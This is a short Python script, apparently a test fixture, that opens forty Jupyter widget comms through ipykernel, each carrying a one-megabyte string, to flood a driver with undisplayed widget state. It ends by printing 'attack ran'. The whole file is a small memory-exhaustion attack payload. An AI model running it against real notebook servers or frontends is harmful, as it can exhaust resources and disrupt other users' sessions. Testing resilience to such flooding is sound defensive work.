"""Fill the driver with the state of widgets, which nobody shows."""

from ipykernel.comm import Comm

for _ in range(40):
    Comm(target_name="jupyter.widget", data={"state": {"_model_name": "x", "value": "x" * (1 << 20)}})
print("\nattack ran\n", end="")
